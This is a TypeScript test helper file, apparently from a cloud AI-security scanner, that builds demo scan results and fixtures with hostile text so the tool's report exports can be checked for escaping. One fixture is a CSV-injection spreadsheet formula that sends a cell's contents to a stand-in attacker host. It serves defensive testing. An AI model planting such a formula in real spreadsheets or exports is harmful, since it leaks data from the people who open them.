import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { expect } from 'vitest';
import type { Finding } from '../../src/model/finding.js';
import type { ScanResults } from '../../src/model/results.js';
import { computeScores } from '../../src/scores/compute-scores.js';
import { runCli, tempDir } from './cli.js';

/** The demo scan's results.json (a real scan: every status, a suppressed failure, global resources). */
export function demoResults(): ScanResults {
  const dir = tempDir();
  const run = runCli(['scan', '--demo', '--output-dir', dir, '--format', 'none']);
  expect(run.status, run.stderr).toBe(0);
  return JSON.parse(readFileSync(join(dir, 'results.json'), 'utf8')) as ScanResults;
}

/** Text a hostile or careless resource owner can put in a name, tag or message. */
export const HOSTILE = {
  /** Delimiters, quotes, line breaks of every kind, markup and XML's end-of-CDATA. */
  markup: 'a,b;"quoted" \'single\' <tag attr="x">&amp; & ]]> \r\nline2\nline3\ttab',
  /** Characters XML 1.0 cannot carry at all, an escape sequence, DEL and a lone surrogate. */
  control: 'nul\u0000 bell\u0007 esc\u001b[31m del\u007f lone\ud800 end',
  /** Outside the Basic Multilingual Plane: surrogate pairs that must survive whole. */
  astral: 'parrot 🦜 math 𝒜 cjk 𠀀 flag 🇪🇺',
  /** A spreadsheet formula (CSV injection). */
  formula: '=HYPERLINK("https://evil.example/?"&A1,"click")',
} as const;

function hostileFinding(overrides: Partial<Finding> & { name: string; region?: string; arn?: string }): Finding {
  const { name, region = 'us-east-1', arn = `arn:aws:sagemaker:${region}:123456789012:notebook-instance/${name}`, ...rest } = overrides;
  return {
    controlId: 'CAFAI-IP-01',
    title: `Notebook ${name} title`,
    capability: 'infrastructure-protection',
    component: 'model',
    severity: 'high',
    status: 'fail',
    resource: { arn, type: 'AWS::SageMaker::NotebookInstance', id: name, region, accountId: '123456789012' },
    message: `Notebook ${name} has direct internet access.`,
    ...rest,
  };
}

/**
 * Results whose findings carry hostile text in every free-text field, every status and
 * suppression/baseline state, a global resource, another partition, and values over ASFF's
 * length limits. In results.json order (control, then ARN).
 */
export function hostileResults(demo: ScanResults): ScanResults {
  const findings: Finding[] = [
    hostileFinding({ name: HOSTILE.markup, message: `markup: ${HOSTILE.markup}`, baselineState: 'new' }),
    hostileFinding({ name: HOSTILE.control, message: `control: ${HOSTILE.control}` }),
    hostileFinding({ name: HOSTILE.astral, message: `astral: ${HOSTILE.astral}`, title: `Title ${HOSTILE.astral}` }),
    hostileFinding({ name: HOSTILE.formula, message: HOSTILE.formula }),
    hostileFinding({ name: 'passing', status: 'pass', message: 'Notebook passing has no direct internet access.', baselineState: 'fixed' }),
    hostileFinding({ name: 'unknown', status: 'not_evaluated', reason: `the notebook's network settings were not collected, "${HOSTILE.markup}"`, message: 'could not be checked' }),
    hostileFinding({
      name: 'accepted',
      suppression: { reason: `accepted: ${HOSTILE.markup} ${HOSTILE.astral}`, expires: '2030-01-01', source: 'cafscan.ignore.yaml#suppressions[0]' },
      baselineState: 'unchanged',
    }),
    hostileFinding({ name: 'long', message: `${'long message '.repeat(200)}${HOSTILE.astral}`, title: `${'T'.repeat(255)}🦜 title`, arn: `arn:aws:sagemaker:us-east-1:123456789012:notebook-instance/${'x'.repeat(600)}` }),
    hostileFinding({ name: 'china', region: 'cn-north-1', arn: 'arn:aws-cn:sagemaker:cn-north-1:123456789012:notebook-instance/china' }),
    {
      controlId: 'CAFAI-SG-01',
      title: 'IAM roles used by AI workloads are not over-privileged',
      capability: 'security-governance',
      component: 'model',
      severity: 'critical',
      status: 'fail',
      resource: { arn: 'arn:aws:iam::123456789012:role/ml<&>"role"', type: 'AWS::IAM::Role', id: 'ml<&>"role"', region: 'global', accountId: '123456789012' },
      message: `Role ${HOSTILE.markup} allows *:*`,
    },
  ];
  findings.sort((a, b) => (a.controlId < b.controlId ? -1 : a.controlId > b.controlId ? 1 : a.resource.arn < b.resource.arn ? -1 : a.resource.arn > b.resource.arn ? 1 : 0));
  const details = demo.controls?.['CAFAI-AS-01'];
  if (!details) throw new Error('the demo scan has no CAFAI-AS-01 details');
  return {
    ...demo,
    findings,
    scores: computeScores(findings),
    controls: {
      'CAFAI-IP-01': { ...details, title: 'Notebook title', remediation: { ...details.remediation, console: `Fix it: ${HOSTILE.markup} ${'step. '.repeat(120)}` } },
      'CAFAI-SG-01': details,
    },
  };
}

export function joined(chunks: Iterable<string>): string {
  return [...chunks].join('');
}

/**
 * What a UTF-8 file holds for `text`: a lone surrogate (no character at all) becomes U+FFFD when
 * encoded, in every report file alike (String.prototype.toWellFormed, written out for ES2023).
 */
export function wellFormed(text: string): string {
  return text.replace(/[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/g, '\ufffd');
}
